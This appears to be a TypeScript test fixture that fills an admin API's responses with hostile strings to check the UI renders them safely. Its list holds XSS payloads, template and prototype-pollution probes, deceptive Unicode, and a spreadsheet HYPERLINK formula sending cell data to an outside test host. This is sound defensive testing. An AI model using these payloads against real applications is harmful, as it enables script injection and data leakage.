import type { z } from 'zod'
import { EvidenceState, ReportResult, StatementResult, Verification } from '../../src/contract/evidence.ts'
import { OPERATIONS } from '../../src/contract/operations.ts'
import type { Operation } from '../../src/contract/operation.ts'
import { PolicyPage, ShadowReport } from '../../src/contract/policy.ts'
import { ReplayReport } from '../../src/contract/playground.ts'
import { TailEvent } from '../../src/contract/records.ts'

/* Answers of the admin API as a malicious world would fill them: the same shape, and in every text that the contract leaves open something that would like to do harm. */

/** Set by a script that ran, whichever way it got in. */
export const FLAG = 'cordonWasHad'
const DO = `globalThis.${FLAG}=1`

export const HOSTILE: readonly string[] = [
  `<img src=x onerror="${DO}">`,
  `<script>${DO}</script>`,
  `"'><svg onload=${DO}>`,
  `javascript:${DO}`,
  `</code></pre><iframe srcdoc="<script>parent.${FLAG}=1</script>">`,
  `//elsewhere.test/x`,
  `/\\elsewhere.test/../..`,
  `=HYPERLINK("http://elsewhere.test/?"&A1,"look")`,
  '\u202egnp.evil\u202c \u2067right\u2069 \u200f\u061c',
  'zero\u200bwidth\ufeff\u00adsoft\u2028line',
  'nul \u0000 bell \u0007 esc \u001b[31m del \u007f',
  'lone \ud800 and \udc00',
  'A'.repeat(10_000),
  '{{7*7}} ${7*7} %7B <%= 7*7 %>',
  'constructor',
  '__proto__',
  'toString',
  '',
  'a\r\n\r\n\tb',
]

/** What no page may show as it is: it turns the direction of writing, or is not to be seen. */
export const INVISIBLE = '[\\u0000-\\u0008\\u000b-\\u001f\\u007f\\u00ad\\u061c\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u2069\\ufeff\\ud800-\\udfff]' // prettier-ignore

type Json = z.core.util.JSONType
type Path = readonly (string | number)[]

/** Names of fields whose own fields have names that come from outside. */
const NAMED_BY_OTHERS = new Set(['found', 'levels', 'rules', 'types', 'open', 'unless', 'who', 'attributes', 'by'])
/** Where the page asks next: it has to get there. */
const KEPT = new Set(['job', 'line'])

const RESULTS: Readonly<Record<string, z.ZodType>> = { verification: Verification, statement: StatementResult, report: ReportResult, replay: ReplayReport } // prettier-ignore

/** Gives one hostile text after the other; no two are equal, but where a name of something that JavaScript has must stand alone. */
function aVillain() {
  let turn = 0
  return (): string => {
    turn += 1
    const text = HOSTILE[turn % HOSTILE.length] ?? ''
    return turn % 3 === 0 && text.length > 9 && !text.startsWith('constr') ? `${text} ${String(turn)}` : text
  }
}

/** The answer to this question, made hostile. What the contract does not leave open (times, states, zones) stays as it was. */
export function hostile(method: string, path: string, body: Json): Json {
  const operation = operationOf(method, path)
  if (operation?.answers.kind !== 'json') throw new Error(`no JSON is told of at ${method} ${path}`)
  const job = isFields(body) && typeof body['kind'] === 'string' && 'result' in body ? body : null
  const result = job === null ? undefined : RESULTS[String(job['kind'])]
  if (job === null || result === undefined) return fitted(operation.answers.schema, body)
  return { ...(fitted(operation.answers.schema, { ...job, result: null }) as object), result: job['result'] === null ? null : fitted(result, job['result'] ?? null) } // prettier-ignore
}

function fitted(schema: z.ZodType, body: Json): Json {
  const next = aVillain()
  let made = replaced(body, next)
  for (let tries = 0; tries < 20; tries += 1) {
    const { error } = schema.safeParse(made)
    if (error === undefined) return made
    const paths = error.issues.flatMap((issue) => pathsOf(issue, []))
    made = paths.reduce((all, path) => restored(all, body, path), made)
  }
  throw new Error(`cannot be made to fit: ${JSON.stringify(schema.safeParse(made).error?.issues).slice(0, 500)}`)
}

const pathsOf = (issue: z.core.$ZodIssue, before: Path): readonly Path[] => {
  const here = [...before, ...(issue.path as Path)]
  if (issue.code === 'invalid_union') return issue.errors.length === 0 ? [here] : issue.errors.flatMap((one) => one.flatMap((more) => pathsOf(more, here))) // prettier-ignore
  return [here]
}

function replaced(value: Json, next: () => string): Json {
  if (typeof value === 'string') return next()
  if (Array.isArray(value)) return value.map((one) => replaced(one, next))
  if (!isFields(value)) return value
  return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, KEPT.has(name) ? inner : NAMED_BY_OTHERS.has(name) && isFields(inner) ? renamed(inner, next) : replaced(inner, next)])) // prettier-ignore
}

const renamed = (fields: Readonly<Record<string, Json>>, next: () => string): Json =>
  Object.fromEntries(Object.values(fields).map((inner) => [next(), replaced(inner, next)]))

/** With what stood at this path. */
function restored(made: Json, from: Json, [step, ...rest]: Path): Json {
  if (step === undefined) return from
  if (Array.isArray(made) && Array.isArray(from)) return made.map((one, nth) => nth === step ? restored(one, from[nth] ?? null, rest) : one) // prettier-ignore
  if (!isFields(made) || !isFields(from)) return from
  return { ...made, [step]: restored(made[step] ?? null, from[step] ?? null, rest) }
}

const isFields = (value: Json): value is { readonly [name: string]: Json } =>
  typeof value === 'object' && value !== null && !Array.isArray(value)

function operationOf(method: string, path: string): Operation | undefined {
  const all: readonly Operation[] = Object.values(OPERATIONS)
  const fits = (one: Operation) => new RegExp(`^${one.path.replaceAll(/\{\w+\}/g, '[^/]+')}$`).test(path)
  return all.find((one) => one.method === method.toLowerCase() && fits(one))
}

/** An answer with one of each thing that a young Cordon has none of. */
export function fuller(path: string, body: unknown): unknown {
  if (path === '/admin/evidence') return fullerEvidence(EvidenceState.parse(body))
  if (path === '/admin/policy/shadow') return fullerShadow(ShadowReport.parse(body))
  if (path !== '/admin/policy') return body
  const page = PolicyPage.parse(body)
  return { ...page, candidate: page.policy, candidateUntil: 'u', approved: { serial: 1, author: 'a', approvers: ['b', 'c'] } } // prettier-ignore
}

const fullerEvidence = (state: EvidenceState): EvidenceState => ({
  ...state,
  witnesses: [{ name: 'w', kind: 'file', size: 1, at: state.created, state: 'failing' }],
  whole: state.whole && {
    ...state.whole,
    problems: ['p'],
    pruned: { before: 1, at: null, by: 'b', retain: 'r' },
    gaps: [{ from: 1, record: 2, by: 'b', reason: 'r' }],
    holds: [{ hold: 'h', callers: ['c'], tenant: 't', from: null, to: null, because: 'b', by: 'b' }],
    retention: [{ obligation: 'o', retain: 'r', because: 'b' }],
  },
})

function fullerShadow(report: ShadowReport): ShadowReport {
  const many = Object.fromEntries(HOSTILE.map((_text, nth) => [String(nth), nth]))
  const change = { from: ['f'], to: ['t', 'u'], count: 3, levels: many, rules: many, who: { role: many, team: many }, samples: ['s', 't'] } // prettier-ignore
  const tried = {
    asked: 9,
    changed: 3,
    first: report.since,
    last: report.until,
    changes: [change, { ...change, to: [] }],
  }
  const candidate = { ...tried, policy: { name: 'n', version: 'v', digest: 'd' } }
  return { ...report, damaged: 1, cut: 1, rules: [{ ...tried, rule: 'r', says: 's', until: 'u' }], candidates: [candidate] } // prettier-ignore
}

/** What a live tail tells: each of the texts in every field of a request. */
export const HOSTILE_TAIL = `event: requests\ndata: ${JSON.stringify(TailEvent.parse({ requests: HOSTILE.map(hostileRequest), next: 1 }))}\n\n` // prettier-ignore

function hostileRequest(text: string, nth: number): unknown {
  const words = ['effect', 'caller', 'client', 'api', 'level', 'rule', 'destination', 'provider', 'outcome', 'model', 'served_model', 'policy', 'problem', 'zone', 'region', 'pinned'] // prettier-ignore
  const lists = ['tenant', 'team', 'role', 'entity', 'considered', 'reached']
  const time = new Date(Date.UTC(2026, 10, 21, 12, 0, nth)).toISOString()
  return {
    ...{ request: `live${String(nth)} ${text}`, seq: nth, ended: null, time, found: { [text]: 1 } },
    ...Object.fromEntries(words.map((name) => [name, text])),
    // where a request went shows only of one that was permitted
    ...(nth % 2 === 0 && { effect: 'permit' }),
    ...Object.fromEntries(lists.map((name) => [name, [text, `${text} again`, 'third']])),
    ...{ status: null, tokens_in: null, tokens_out: null, cost: null, ms: nth },
  }
}
